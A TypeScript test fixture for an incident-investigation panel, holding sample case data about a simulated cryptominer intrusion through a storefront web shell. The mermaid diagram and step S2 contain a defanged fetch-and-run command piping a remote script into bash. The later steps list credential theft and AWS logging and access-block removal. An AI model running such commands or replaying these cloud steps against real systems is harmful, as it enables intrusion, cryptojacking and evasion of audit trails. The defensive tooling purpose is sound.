import type { CaseView } from '../../src/webview/protocol/casePanel.ts';

const mermaid = `flowchart LR
  subgraph B2["storefront (3f2a9c81d7be)"]
    S2["09:12:38 java starts bash -c ”curl -s hxxp://198[.]51[.]100[.]23/i.sh | bash”"]
    S3["09:12:43 kdevtmpfsi runs from /dev/shm, 3 times"]
  end
  subgraph B4["AWS 123456789012"]
    S5["09:19:05 iam:CreateAccessKey for backup-admin"]
    S6["09:20:11 cloudtrail:StopLogging on org-trail"]
    S7["09:22:40 s3:DeleteBucketPublicAccessBlock on acme-orders"]
  end
  S1["09:12:31 Internet - Tomcat receives a request from 198[.]51[.]100[.]23"]
  S4["09:13:22 node ip-10-20-3-41 - curl reads the credentials of the node role"]
  S1 -.->|"09:12:38"| S2
  S2 -->|"09:12:43"| S3
  S3 -.->|"09:13:22"| S4
  S4 -->|"09:19:05"| S5
  S5 -->|"09:20:11"| S6
  S5 -->|"09:22:40"| S7
  classDef cloud stroke:#bf8803,stroke-width:2px
  classDef external stroke:#717171,stroke-width:2px,stroke-dasharray:4 3
  classDef entry stroke:#1a85ff,stroke-width:3px
  classDef malicious stroke:#e51400,stroke-width:3px
  class S5,S6,S7 cloud
  class S1 external
  class S1 entry
  class S3,S4,S6 malicious
`;

type Step = CaseView['flow']['steps'][number];

const container = { place: 'B2', boundary: 'storefront (3f2a9c81d7be)' };
const account = { place: 'B4', boundary: 'AWS 123456789012' };

type Told = Pick<Step, 'place' | 'boundary' | 'action'> & Partial<Step> & { readonly time: string; readonly cite: string };

const step = (id: string, { time, cite, ...told }: Told): Step => ({
  ...{ id, at: `2026-06-10T${time}.000Z`, role: 'step', cites: [cite], members: [], after: [] },
  ...told,
});

const after = (from: string, why: string, inferred = false): Step['after'] => [{ from, inferred, why }];

export const storefrontView: CaseView = {
  trigger: '019eb0ce-2f6e-7a1c-9b52-3d4e5f607182',
  title: 'Cryptominer dropped through storefront web shell',
  tenant: { name: 'acme', region: 'eu1', sample: true },
  tactic: 'Execution (TA0002, T1059.004)',
  confidence: 4,
  status: 'partial',
  summary: [
    {
      markdown: '`bash` started by `java` in **shop/storefront** at 2026-06-10 09:12:38Z; then `kdevtmpfsi` ran from `/dev/shm`.',
      cites: ['E1', 'E3'],
    },
    {
      markdown: 'Confidence that this is one attack: 4/5; not everything was read: cluster sweep shows 100 items of 3,112.',
      cites: ['E9'],
    },
  ],
  notLookedAt: [
    { markdown: 'Vulnerabilities: not looked at by this version.', cites: ['E1'] },
    { markdown: 'Cloud account: not looked at by this version.', cites: ['E1'] },
  ],
  lookedAt: [
    { markdown: 'syscall events in cluster prod-eu-1, ±2 h: 100 of 3,112 read', cites: ['E9'] },
    { markdown: 'host-level events on node-3-41 in the 7 days before: nothing', cites: ['E7'] },
  ],
  reach: { around: 2, before: 168 },
  wider: { around: 6, before: 336 },
  flow: {
    status: 'done',
    mermaid,
    steps: [
      step('S1', {
        ...{ time: '09:12:31', place: 'B1', boundary: 'Internet', role: 'entry', cite: 'E2' },
        action: 'Tomcat receives a request from 198[.]51[.]100[.]23',
      }),
      step('S2', {
        ...{ time: '09:12:38', ...container, cite: 'E3', after: after('S1', 'same process, 7 s apart', true) },
        action: 'java starts bash -c "curl -s hxxp://198[.]51[.]100[.]23/i.sh | bash"',
      }),
      step('S3', {
        ...{ time: '09:12:43', ...container, role: 'malicious', cite: 'E4', after: after('S2', 'started by bash') },
        action: 'kdevtmpfsi runs from /dev/shm, 3 times',
      }),
      step('S4', {
        ...{ time: '09:13:22', place: 'B3', boundary: 'node ip-10-20-3-41', role: 'malicious', cite: 'E5' },
        ...{ action: 'curl reads the credentials of the node role', after: after('S3', 'same container', true) },
      }),
      step('S5', {
        ...{ time: '09:19:05', ...account, cite: 'E6', after: after('S4', 'same role') },
        action: 'iam:CreateAccessKey for backup-admin',
      }),
      step('S6', {
        ...{ time: '09:20:11', ...account, role: 'malicious', cite: 'E7', after: after('S5', 'same access key') },
        action: 'cloudtrail:StopLogging on org-trail',
      }),
      step('S7', {
        ...{ time: '09:22:40', ...account, cite: 'E8', after: after('S5', 'same access key') },
        action: 's3:DeleteBucketPublicAccessBlock on acme-orders',
      }),
    ],
  },
  indicators: [
    {
      ...{ kind: 'address', value: '198[.]51[.]100[.]23', seen: '2026-06-10 09:12:31Z', role: 'source of a connection' },
      ...{ known: 'in the threat-intelligence feed', cites: ['E2', 'E3'] },
    },
    { kind: 'SHA256', value: '6f6a'.repeat(16), seen: '–', role: 'file that ran', known: '–', cites: ['E4'] },
  ],
  caseFile: '/tmp/case.md',
};

/** What a refresh of it might find. */
export const storefrontChanges: NonNullable<CaseView['changes']> = {
  since: '2026-06-10T09:41:00.000Z',
  fresh: ['`kdevtmpfsi` ran again <b>at 10:02</b>'],
  changed: [{ before: '3 groups', after: '4 groups' }],
  gone: [],
};
